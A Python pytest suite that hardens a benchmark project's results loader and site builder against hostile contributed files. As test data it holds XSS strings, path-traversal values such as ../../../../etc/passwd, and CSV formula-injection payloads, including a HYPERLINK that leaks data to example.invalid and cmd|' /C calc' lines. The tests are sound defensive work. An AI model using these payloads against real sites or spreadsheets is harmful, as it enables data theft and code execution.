"""Results files from anyone: every string field fuzzed, limits, links and paths.

A results file may come from a contributor's machine, a fork's pull request or a
history branch. Whatever it holds, it is refused at the reading boundary with an
error naming it, or it reaches the site as plain text: never a script, a link that
runs code, an included repository file, or a write outside the site.
"""

from __future__ import annotations

import json
import os
import shutil
from collections.abc import Callable, Iterator
from html.parser import HTMLParser
from pathlib import Path
from typing import Any

import markdown
import pandas as pd
import pytest
from mkdocs.config import load_config

from bench.environment import PROJECT_ROOT
from bench.results import schema
from bench.results.read import ResultsError, check_file, load_results, validate_tree
from bench.site import build

VALID = Path(__file__).parent / "fixtures" / "bad" / "valid"
MACHINE = "linux-x86-64-2cpu-amd-epyc"
RUN = "2026-11-25T08-18-49Z-quick"
FILES = ("cpython-3.11.7.json", "cpython-3.11.7.outcomes.json", "run.json")

#: Payloads that are legal text: they must reach the pages, inert.
INERT = {
    "script": "<script>alert(1)</script>",
    "link": "](javascript:alert(1))",
    "snippet": '--8<-- ".git/config"',
    "traversal": "../../../../etc",
    "template": "{{ config }} {% raw %}",
    "marker": "<!-- evidence: races_lose_updates -->",
    "attributes": 'cell { onclick="alert(1)" }',
}
#: Zero-width and bidirectional formatting characters: one U+202E in a CPU name showed
#: the home page's own words reversed around it.
INVISIBLE = [
    chr(c)
    for first, last in [(0x200B, 0x200F), (0x202A, 0x202E), (0x2066, 0x2069), (0xFEFF, 0xFEFF)]
    for c in range(first, last + 1)
]
#: Payloads no field may hold: refused at the boundary, naming the file.
REFUSED = {
    "newline-snippet": '\n--8<-- ".git/config"\n',
    "nul": "a\x00b",
    "long": "x" * 10_000,
    "line-separator": "a\u2028b",
    **{f"U+{ord(char):04X}": f"64 cores{char}2" for char in INVISIBLE},
}
#: Fields whose value the loader reads as a name or a closed set: a payload there must be
#: refused, never passed on (it becomes a path, a unit, a date).
NAMES = {"machine", "run_id", "interpreter", "label", "file", "outcomes_file"}
FIXED = {"unit", "kind", "version", "date", "run_started", "started_utc", "finished_utc", "status"}


@pytest.fixture
def results(tmp_path: Path) -> Path:
    root = tmp_path / "results"
    shutil.copytree(VALID, root)
    return root


def string_fields(data: Any, path: tuple[Any, ...] = ()) -> Iterator[tuple[tuple[Any, ...], str]]:
    """Every string value of a JSON document, with the path of keys to it."""
    if isinstance(data, dict):
        for key, value in data.items():
            yield from string_fields(value, (*path, key))
    elif isinstance(data, list):
        for i, value in enumerate(data):
            yield from string_fields(value, (*path, i))
    elif isinstance(data, str):
        yield path, data


def field_name(path: tuple[Any, ...]) -> str:
    named = [p for p in path if isinstance(p, str)]
    return named[-1] if named else ""


def set_at(data: Any, path: tuple[Any, ...], value: Any) -> None:
    for key in path[:-1]:
        data = data[key]
    data[path[-1]] = value


def edit_all(root: Path, change: Callable[[tuple[Any, ...], str], str | None]) -> int:
    """Rewrite every string field of every file for which ``change`` gives a new value."""
    changed = 0
    for name in FILES:
        path = root / MACHINE / RUN / name
        data = json.loads(path.read_text(encoding="utf-8"))
        for where, value in list(string_fields(data)):
            new = change(where, value)
            if new is not None:
                set_at(data, where, new)
                changed += 1
        path.write_text(json.dumps(data), encoding="utf-8")
    return changed


def every_field() -> list[tuple[str, tuple[Any, ...]]]:
    fields = []
    for name in FILES:
        data = json.loads((VALID / MACHINE / RUN / name).read_text(encoding="utf-8"))
        fields += [(name, where) for where, _ in string_fields(data)]
    return fields


# --- the boundary: every field, every payload it may not hold ---------------------------------


@pytest.mark.parametrize("payload", REFUSED.values(), ids=REFUSED.keys())
def test_every_string_field_refuses_control_characters_and_huge_values(
    results: Path, payload: str
) -> None:
    fields = every_field()
    assert len(fields) > 100  # the fixture really has that many strings
    for name, where in fields:
        path = results / MACHINE / RUN / name
        original = path.read_bytes()
        data = json.loads(original)
        set_at(data, where, payload)
        path.write_text(json.dumps(data), encoding="utf-8")
        with pytest.raises(ResultsError) as caught:
            check_file(path)  # the boundary load_results and validate go through
        assert caught.value.path == path, (name, where)
        path.write_bytes(original)


@pytest.mark.parametrize("payload", [*INERT.values(), "a/b", ".hidden", ""])
def test_names_that_become_paths_refuse_anything_but_a_plain_name(
    results: Path, payload: str
) -> None:
    for name, where in every_field():
        if field_name(where) not in NAMES:
            continue
        path = results / MACHINE / RUN / name
        original = path.read_bytes()
        data = json.loads(original)
        set_at(data, where, payload)
        path.write_text(json.dumps(data), encoding="utf-8")
        assert validate_tree(results), (name, where)
        path.write_bytes(original)


# --- the site: what passes reaches the page as text -------------------------------------------


class Tags(HTMLParser):
    """Every tag and attribute of a page."""

    def __init__(self) -> None:
        super().__init__()
        self.tags: list[tuple[str, list[tuple[str, str | None]]]] = []
        self.text: list[str] = []

    def handle_data(self, data: str) -> None:
        self.text.append(data)

    def handle_starttag(self, tag: str, attrs: list[tuple[str, str | None]]) -> None:
        self.tags.append((tag, attrs))


def render(pages: dict[str, str]) -> dict[str, str]:
    """Each generated page as HTML, through the Markdown extensions the site uses."""
    config = load_config(str(PROJECT_ROOT / "mkdocs.yml"))
    out = {}
    for page, text in pages.items():
        md = markdown.Markdown(
            extensions=config["markdown_extensions"], extension_configs=config["mdx_configs"]
        )
        out[page] = md.convert(text)
    return out


def hostile_site(results: Path, payload: str, tmp_path: Path) -> dict[str, str]:
    """The site's pages, as HTML, with ``payload`` added to every free-text field."""

    def change(where: tuple[Any, ...], value: str) -> str | None:
        name = field_name(where)
        return None if name in NAMES | FIXED else f"{value} {payload}"

    assert edit_all(results, change) > 100
    assert validate_tree(results) == []  # legal text: it must reach the pages
    docs = tmp_path / "docs"
    docs.mkdir()
    (docs / "page.md").write_text(
        "# Page\n\n<!-- measured-on -->\n\n<!-- verdicts -->\n\n"
        "<!-- evidence: races_lose_updates -->\n\n<!-- table: outcomes -->\n",
        encoding="utf-8",
    )
    site = build.generate(
        docs,
        environ={"BENCH_RESULTS": f"Hostile <script>alert(2)</script>={results}"},
        cache=tmp_path / "cache",
    )
    return render(site.pages)


@pytest.mark.slow
@pytest.mark.parametrize("payload", INERT.values(), ids=INERT.keys())
def test_hostile_text_in_every_field_reaches_the_site_as_plain_text(
    results: Path, payload: str, tmp_path: Path, monkeypatch: pytest.MonkeyPatch
) -> None:
    monkeypatch.chdir(PROJECT_ROOT)  # where the snippets extension would look
    html = hostile_site(results, payload, tmp_path)
    shown = set()
    for page, text in html.items():
        parser = Tags()
        parser.feed(text)
        if any(payload in part for part in parser.text):
            shown.add(page)
        assert all(tag != "script" for tag, _ in parser.tags), page
        for tag, attrs in parser.tags:
            for name, value in attrs:
                assert not (name or "").startswith("on"), (page, tag, name)
                assert "javascript:" not in (value or "").replace(" ", "").lower(), (page, tag)
        assert "[core]" not in text, page  # .git/config was not included
        assert "<!-- evidence" not in text, page  # a marker in data stays text
    # The payload did reach the pages, as the very text it was.
    assert {"page.md", "environment.md", "results/index.md"} <= shown, shown


def test_braces_at_the_end_of_a_cell_or_heading_set_no_attribute() -> None:
    """attr_list reads "{ ... }" ending a table cell or a heading as its attributes."""
    import markdown

    from bench.report.markdown import inert

    value = inert('Foo { onclick="alert(1)" }')
    page = f"## {value}\n\n| a |\n|---|\n| {value} |\n"
    html = markdown.markdown(page, extensions=["tables", "attr_list"])
    assert "<td>Foo { onclick=" in html and "<h2>Foo { onclick=" in html, html


# --- limits: size, depth, numbers -------------------------------------------------------------


def test_a_file_over_the_size_limit_is_refused_before_it_is_parsed(
    results: Path, monkeypatch: pytest.MonkeyPatch
) -> None:
    path = results / MACHINE / RUN / FILES[0]
    with path.open("r+b") as f:
        f.truncate(200 * 2**20)  # sparse: costs no disk
    monkeypatch.setattr(json, "loads", lambda *_a, **_k: pytest.fail("parsed"))
    with pytest.raises(ResultsError, match=r"200\.0 MiB, over the 16 MiB") as caught:
        check_file(path)
    assert caught.value.path == path


def test_the_size_limit_is_configurable(results: Path, monkeypatch: pytest.MonkeyPatch) -> None:
    monkeypatch.setenv(schema.MAX_FILE_MB_ENV, "0.0001")
    with pytest.raises(ResultsError, match=schema.MAX_FILE_MB_ENV):
        check_file(results / MACHINE / RUN / FILES[0])
    monkeypatch.setenv(schema.MAX_FILE_MB_ENV, "lots")
    with pytest.raises(ValueError, match="not a number of MiB"):
        schema.max_file_bytes()


@pytest.mark.parametrize(
    ("text", "reason"),
    [
        ("[" * 200_000 + "]" * 200_000, "nested too deeply"),
        ('{"benchmarks": [' + "1" * 5000 + "]}", "invalid JSON value"),
    ],
    ids=["deep", "huge-int"],
)
def test_parser_limits_are_errors_naming_the_file(results: Path, text: str, reason: str) -> None:
    path = results / MACHINE / RUN / FILES[0]
    path.write_text(text, encoding="utf-8")
    with pytest.raises(ResultsError, match=reason) as caught:
        check_file(path)
    assert caught.value.path == path


def outcome_value(value: Any, metric: str = "lost_updates") -> Callable[[dict[str, Any]], None]:
    def change(data: dict[str, Any]) -> None:
        record = next(r for r in data["records"] if r["metric"] == metric)
        record["values"][0] = value

    return change


def suite_value(value: float) -> Callable[[dict[str, Any]], None]:
    def change(data: dict[str, Any]) -> None:
        data["benchmarks"][0]["runs"][-1]["values"][0] = value

    return change


def outcome_unit(unit: str, value: Any) -> Callable[[dict[str, Any]], None]:
    def change(data: dict[str, Any]) -> None:
        data["records"][0]["unit"] = unit
        data["records"][0]["values"][0] = value

    return change


@pytest.mark.parametrize(
    ("name", "change", "reason"),
    [
        (FILES[1], outcome_value(float("nan")), "not a finite number"),
        (FILES[1], outcome_value(float("inf")), "not a finite number"),
        (FILES[1], outcome_unit("second", -1.0), "may not be negative"),
        (FILES[1], outcome_unit("byte", -5), "may not be negative"),
        (FILES[1], outcome_unit("parsecs", 1), "unit 'parsecs' is not one of"),
        (FILES[0], suite_value(float("inf")), "not a finite number"),
    ],
    ids=["nan", "infinity", "negative-seconds", "negative-bytes", "unknown-unit", "suite-inf"],
)
def test_impossible_numbers_are_errors_naming_the_benchmark(
    results: Path, name: str, change: Callable[[dict[str, Any]], None], reason: str
) -> None:
    path = results / MACHINE / RUN / name
    data = json.loads(path.read_text(encoding="utf-8"))
    change(data)
    path.write_text(json.dumps(data), encoding="utf-8")  # NaN and Infinity as JSON allows
    with pytest.raises(ResultsError, match=reason) as caught:
        check_file(path)
    assert "record 0" in caught.value.reason or "benchmark '" in caught.value.reason


def test_a_difference_may_be_negative(results: Path) -> None:
    # Memory per extra worker is a fitted slope: below zero is noise, not an impossibility.
    path = results / MACHINE / RUN / FILES[1]
    data = json.loads(path.read_text(encoding="utf-8"))
    data["records"][0].update(unit="byte", metric="extra_uss_per_worker_bytes", values=[-5.0])
    data["records"][0]["metadata"]["metric"] = "extra_uss_per_worker_bytes"
    path.write_text(json.dumps(data), encoding="utf-8")
    check_file(path)


def test_a_duplicate_benchmark_definition_is_an_error_naming_both(results: Path) -> None:
    path = results / MACHINE / RUN / FILES[0]
    data = json.loads(path.read_text(encoding="utf-8"))
    copy = json.loads(json.dumps(data["benchmarks"][0]))
    copy["metadata"]["name"] = "a copy under another name"
    data["benchmarks"].append(copy)
    path.write_text(json.dumps(data), encoding="utf-8")
    with pytest.raises(ResultsError, match="define the same measurement") as caught:
        check_file(path)
    assert "a copy under another name" in caught.value.reason
    assert data["benchmarks"][0]["metadata"]["name"] in caught.value.reason


# --- links, names and folders -----------------------------------------------------------------


def test_a_symlinked_machine_folder_is_a_problem_not_a_silent_skip(
    results: Path, tmp_path: Path
) -> None:
    elsewhere = tmp_path / "elsewhere"
    shutil.move(results / MACHINE, elsewhere)
    (results / MACHINE).symlink_to(elsewhere, target_is_directory=True)
    assert [p.reason for p in validate_tree(results)] == ["a symbolic link, not a folder"]


def test_a_symlinked_file_leading_outside_is_a_problem(results: Path, tmp_path: Path) -> None:
    secret = tmp_path / "secret.json"
    secret.write_text('{"token": "s3cret"}', encoding="utf-8")
    (results / MACHINE / RUN / "extra.json").symlink_to(secret)
    problems = validate_tree(results)
    assert [p.reason for p in problems] == ["a symbolic link, not a results file"]


def test_a_manifest_naming_a_file_outside_its_folder_is_refused(results: Path) -> None:
    path = results / MACHINE / RUN / "run.json"
    data = json.loads(path.read_text(encoding="utf-8"))
    data["interpreters"][0]["file"] = "../../../../../etc/passwd"
    path.write_text(json.dumps(data), encoding="utf-8")
    with pytest.raises(ResultsError, match="not a file name of this folder"):
        check_file(path)


def test_a_run_id_that_climbs_out_writes_nothing_anywhere(
    results: Path, tmp_path: Path, monkeypatch: pytest.MonkeyPatch
) -> None:
    # The attack of the report: a run_id of ../.. made the build truncate a file outside.
    victim = tmp_path / "victim.json"
    victim.write_text("precious", encoding="utf-8")
    hostile = os.path.relpath(tmp_path, results / MACHINE / RUN)

    def change(where: tuple[Any, ...], value: str) -> str | None:
        return hostile if field_name(where) == "run_id" else None

    edit_all(results, change)
    monkeypatch.chdir(PROJECT_ROOT)
    with pytest.raises(ResultsError, match="not a plain name"):
        build.generate(tmp_path, environ={"BENCH_RESULTS": str(results)}, cache=tmp_path / "c")
    assert victim.read_text(encoding="utf-8") == "precious"


@pytest.mark.parametrize("target", ["../outside.md", "/etc/x", "a/../../b", "a\\b"])
def test_the_site_refuses_to_write_outside_the_docs(target: str) -> None:
    with pytest.raises(build.SiteError, match="leads out of the site"):
        build.check_copy(target)


def test_the_site_refuses_to_publish_a_file_from_outside_its_folders(tmp_path: Path) -> None:
    outside = tmp_path / "outside.json"
    outside.write_text("{}", encoding="utf-8")
    with pytest.raises(build.SiteError, match="not a file of a results folder"):
        build.check_copy("generated/x/raw/a.json", outside, [tmp_path / "results"])


def test_a_missing_results_folder_fails_the_build_with_its_name(tmp_path: Path) -> None:
    with pytest.raises(build.SiteError, match="nowhere"):
        build.generate(tmp_path, environ={"BENCH_RESULTS": str(tmp_path / "nowhere")})


def number_fields(data: Any, path: tuple[Any, ...] = ()) -> Iterator[tuple[Any, ...]]:
    """The path of every number (not a flag) of a JSON document."""
    if isinstance(data, dict):
        for key, value in data.items():
            yield from number_fields(value, (*path, key))
    elif isinstance(data, list):
        for i, value in enumerate(data):
            yield from number_fields(value, (*path, i))
    elif isinstance(data, int | float) and not isinstance(data, bool):
        yield path


def test_every_number_refuses_one_too_close_to_zero_to_measure(results: Path) -> None:
    """5e-324 s passed once, then crashed the report: its reciprocal is infinite."""
    for name in FILES:
        path = results / MACHINE / RUN / name
        original = path.read_bytes()
        fields = list(number_fields(json.loads(original)))
        assert len(fields) > 20
        for where in fields:
            data = json.loads(original)
            set_at(data, where, 5e-324)
            path.write_text(json.dumps(data), encoding="utf-8")
            with pytest.raises(ResultsError) as caught:
                check_file(path)
            assert caught.value.path == path, (name, where)
        path.write_bytes(original)


def test_every_time_refuses_a_value_below_a_nanosecond(results: Path) -> None:
    path = results / MACHINE / RUN / FILES[0]
    original = path.read_bytes()
    suite = json.loads(original)
    values = [("benchmarks", b, "runs", r, "values", v)
              for b, benchmark in enumerate(suite["benchmarks"])
              for r, run in enumerate(benchmark["runs"])
              for v, _ in enumerate(run.get("values", []))]  # fmt: skip
    assert len(values) > 10
    for where in values:
        data = json.loads(original)
        set_at(data, where, 4e-10)
        path.write_text(json.dumps(data), encoding="utf-8")
        with pytest.raises(ResultsError, match="shorter than any clock"):
            check_file(path)
    outcomes = results / MACHINE / RUN / FILES[1]
    data = json.loads(outcomes.read_text(encoding="utf-8"))
    outcome_unit("second", 0.0)(data)
    outcomes.write_text(json.dumps(data), encoding="utf-8")
    with pytest.raises(ResultsError, match="shorter than any clock"):
        check_file(outcomes)


# --- times: real, in the past, and those of the run the file names --------------------------

#: The times a file holds: pyperf's local ``date`` of each value, and the run's start
#: (``run_started``, ``started_utc``) and end, with their UTC offset.
LOCAL_TIMES = {"date"}
UTC_TIMES = {"run_started", "started_utc", "finished_utc"}


def time_fields() -> list[tuple[str, tuple[Any, ...]]]:
    fields = [(name, where) for name, where in every_field()
              if field_name(where) in LOCAL_TIMES | UTC_TIMES]  # fmt: skip
    assert {field_name(where) for _, where in fields} == LOCAL_TIMES | UTC_TIMES
    return fields


@pytest.mark.parametrize(
    ("local", "utc", "reason"),
    [
        ("2099-01-01 00:00:00.000001", "2099-01-01T00:00:00+00:00", "future|not the start|and now"),
        ("yesterday", "yesterday", "not a"),
        ("2026-11-25T08:18:49+00:00", "2026-11-25T08:18:49", "not a (local )?time"),
        ("2026-11-20 08:18:49.5", "2026-11-24T08:18:49+00:00", "run"),
    ],
    ids=["future", "not-a-time", "no-offset", "another-run"],
)
def test_every_time_must_be_real_past_and_of_its_own_run(
    results: Path, local: str, utc: str, reason: str
) -> None:
    for name, where in time_fields():
        path = results / MACHINE / RUN / name
        original = path.read_bytes()
        data = json.loads(original)
        set_at(data, where, local if field_name(where) in LOCAL_TIMES else utc)
        path.write_text(json.dumps(data), encoding="utf-8")
        with pytest.raises(ResultsError, match=reason) as caught:
            check_file(path)
        assert caught.value.path == path, (name, where)
        path.write_bytes(original)


@pytest.mark.parametrize(
    "run_id", ["2026-13-45T08-18-49Z-quick", "2099-11-25T08-18-49Z-quick", "my-run"]
)
def test_a_run_id_must_spell_a_real_start_in_the_past(results: Path, run_id: str) -> None:
    edit_all(results, lambda where, value: value.replace(RUN, run_id) if RUN in value else None)
    (results / MACHINE / RUN).rename(results / MACHINE / run_id)
    problems = validate_tree(results)
    assert {p.path.name for p in problems} == set(FILES), problems
    assert all("run id" in p.reason for p in problems), problems


def test_the_newest_run_and_the_stale_warning_come_from_run_ids_not_dates(
    results: Path,
) -> None:
    from datetime import UTC, datetime

    from bench.site.build import stale_notice
    from bench.site.data import SourceData
    from bench.site.sources import Source

    frame = load_results(results)
    later = pd.to_datetime(frame["date"]) + pd.Timedelta(days=3)  # what a file may claim
    moved = frame.assign(date=later.dt.strftime("%Y-%m-%d %H:%M:%S.%f"))
    now = datetime(2026, 12, 4, tzinfo=UTC)
    source = Source("results", "Results", results)
    seen = [SourceData(source, f, f.iloc[:0], f.iloc[:0]) for f in (frame, moved)]
    assert [s.newest_date() for s in seen] == [pd.Timestamp("2026-11-25T08:18:49Z")] * 2
    assert stale_notice(seen[:1], 7, now) == stale_notice(seen[1:], 7, now) != ""


# --- downloads: no CSV cell a spreadsheet would run --------------------------------------------

#: Text a spreadsheet reads as a formula (tab and carriage return are refused at the boundary).
FORMULAS = [
    '=HYPERLINK("http://example.invalid/?leak="&A2,"x")',
    "+1+cmd|' /C calc'!A0",
    "-2+3+cmd|' /C calc'!A0",
    "@SUM(1+1)*cmd|' /C calc'!A0",
]


def csv_cells(path: Path) -> Iterator[str]:
    import csv

    with path.open(newline="", encoding="utf-8") as f:
        for row in csv.reader(f):
            yield from row


def is_number(cell: str) -> bool:
    try:
        float(cell)
    except ValueError:
        return False
    return True


@pytest.mark.slow
def test_no_csv_the_site_or_the_report_writes_holds_a_formula(
    results: Path, tmp_path: Path
) -> None:
    from bench.__main__ import main
    from bench.report.spreadsheet import FORMULA_SIGNS

    fields = iter(range(10**6))

    def change(where: tuple[Any, ...], value: str) -> str | None:
        if field_name(where) in NAMES | FIXED:
            return None
        return FORMULAS[next(fields) % len(FORMULAS)]  # every prefix, in many fields

    assert edit_all(results, change) > 100
    assert validate_tree(results) == []  # legal text: the downloads must hold it, inert
    docs = tmp_path / "docs"
    docs.mkdir()
    site = build.generate(docs, environ={"BENCH_RESULTS": str(results)}, cache=tmp_path / "c")
    report = tmp_path / "report"
    assert main(["report", "--results", str(results), "--out", str(report)]) == 0
    written = [Path(f) for t, f in site.files.items() if t.endswith(".csv")]
    written += sorted(report.rglob("*.csv"))
    assert len(written) >= 3  # the site's tidy table, the report's and its verdicts
    for path in written:
        cells = list(csv_cells(path))
        risky = [c for c in cells if c.startswith(FORMULA_SIGNS) and not is_number(c)]
        assert risky == [], (path, risky[:3])
        if path.name == "tidy.csv":  # the payloads are there, as text
            assert {f"'{formula}" for formula in FORMULAS} <= set(cells), path


@pytest.mark.parametrize("sign", ["=", "+", "-", "@", "\t", "\r"])
def test_every_formula_sign_starts_no_cell(sign: str) -> None:
    from bench.report.spreadsheet import inert_cell, to_csv

    assert inert_cell(f"{sign}1+1") == f"'{sign}1+1"
    assert inert_cell("1+1") == "1+1" and inert_cell(-1.5) == -1.5
    frame = pd.DataFrame({"text": [f"{sign}1+1", "plain"], "number": [-1.5, 2.0]})
    assert to_csv(frame).startswith(f"text,number\n'{sign}1+1,-1.5\n")


def test_a_figure_claim_or_table_that_fails_names_the_results_it_came_from(
    results: Path, tmp_path: Path, monkeypatch: pytest.MonkeyPatch
) -> None:
    """A value the boundary let through crashed the decision map, naming no file: whatever
    fails in a figure, a verdict or a table is left out with the runs its data came from."""
    from bench.evidence import pipeline
    from bench.families import catalogue
    from bench.report.figures import registry

    def broken(*_args: Any, **_kwargs: Any) -> Any:
        raise ValueError("Encountered all NA values")

    def drawn_or_broken(name: str, title: str, rows: pd.DataFrame, *args: Any, **kw: Any) -> Any:
        return broken() if not rows.empty else draw_cached(name, title, rows, *args, **kw)

    claim = catalogue.claims()[0]
    rule, draw_cached = claim.rule, registry.draw_cached
    monkeypatch.setattr(registry, "draw_cached", drawn_or_broken)
    monkeypatch.setattr(pipeline.tables, "timings_table", broken)
    object.__setattr__(claim, "rule", broken)  # a frozen dataclass: the registry's own
    try:
        found = pipeline.evidence(load_results(results), tmp_path / "figures")
    finally:
        object.__setattr__(claim, "rule", rule)
    kinds = {why.kind for why in found.skipped}
    assert kinds == {"figure", "claim", "table"}, found.skipped
    source = f"{MACHINE}/{RUN}/cpython-3.11.7"
    for why in found.skipped:
        assert "Encountered all NA values" in why.reason and source in why.reason, why
